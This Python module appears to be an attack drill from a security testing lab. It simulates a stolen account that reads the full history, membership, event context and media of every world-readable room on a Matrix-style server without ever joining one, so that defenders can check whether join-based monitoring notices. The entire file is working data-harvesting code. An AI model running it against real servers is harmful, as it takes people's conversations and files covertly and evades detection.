"""Reading without entering: history that is open to the world is read, page by page, and no room is ever joined.

A defence that counts joins sees nothing of this.
"""

from collections.abc import Mapping
from typing import Final

from vigie.lab.client import V3, Answer, part
from vigie.lab.drills import Context
from vigie.lab.hands import rob, steal
from vigie.lab.intruder import crew
from vigie.lab.loot import Taken
from vigie.model.language import Sentence

PAGE: Final = 1000
AROUND: Final = 3
"""Old events of a room whose surroundings are asked for."""


class Peek:
    """See the module."""

    name: Final = "peek"
    title: Final = Sentence(
        en="A stolen account reads every room whose history is open to the world, without entering one",
        fr="Un compte volé lit tous les salons à l'historique ouvert, sans entrer dans aucun",
    )
    benign: Final = False
    profile: Final = "victim"
    stages: Final = ("initial_sync", "state", "history", "context", "media")
    seconds: Final = 180.0

    async def run(self, context: Context) -> Taken:
        """Play it: see `Drill.run`."""
        peeping = _Peeping(context)
        return await rob(context, peeping.hands, peeping.play())


class _Peeping:
    def __init__(self, context: Context) -> None:
        self._context = context
        self._loot = context.loot
        self.hands = steal(context)

    async def play(self) -> None:
        await self.hands.intruder.enter()
        rooms = [str(row["room_id"]) for row in await self.hands.rooms() if row.get("world_readable") is True]
        self._loot.done["rooms_open_to_the_world"] = len(rooms)
        await crew(self._context.concurrency, rooms, self._read)

    async def _read(self, room: str) -> None:
        base = f"{V3}/rooms/{part(room)}"
        if "initial_sync" in self._context.stages:
            await self._take_initial_sync(room, base)
        if "state" in self._context.stages:
            answer = await self.hands.get("state", f"{base}/members")
            self.hands.keep_members(answer.rows("chunk") if answer else ())
        files, events = await self._take_history(room) if "history" in self._context.stages else ([], [])
        if "context" in self._context.stages:
            for event in events[-AROUND:]:
                files += await self._take_context(room, f"{base}/context/{part(event)}")
        if "media" in self._context.stages:
            for mxc in dict.fromkeys(files):
                await self.hands.fetch(mxc)

    async def _take_initial_sync(self, room: str, base: str) -> None:
        answer = await self.hands.get("initial_sync", f"{base}/initialSync", limit="100")
        if answer:
            timeline = answer.body.get("messages")
            chunk = Answer(200, timeline).rows("chunk") if isinstance(timeline, Mapping) else []
            self._loot.take_events(room, chunk)
            self.hands.keep_members(answer.rows("state"))

    async def _take_history(self, room: str) -> tuple[list[str], list[str]]:
        """Media addresses and event ids of the whole history, as far as it is given."""
        files: list[str] = []
        events: list[str] = []
        place = ""
        while page := await self.hands.page(room, place, PAGE):
            files += page.files
            events += [str(row.get("event_id")) for row in page.events]
            place = page.end
            if not place:
                break
        return files, events

    async def _take_context(self, room: str, path: str) -> list[str]:
        answer = await self.hands.get("context", path, limit="100")
        if answer is None:
            return []
        return self._loot.take_events(room, [*answer.rows("events_before"), *answer.rows("events_after")])


DRILL: Final = Peek()
